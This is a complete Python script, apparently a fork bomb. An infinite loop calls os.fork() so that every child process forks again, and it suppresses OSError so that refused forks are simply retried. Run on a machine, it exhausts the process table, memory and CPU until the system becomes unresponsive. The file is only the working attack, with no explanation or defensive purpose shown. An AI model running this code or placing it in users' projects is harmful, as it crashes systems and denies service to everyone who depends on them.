"""Forks without end, every child forking too; a refused fork is simply tried again."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
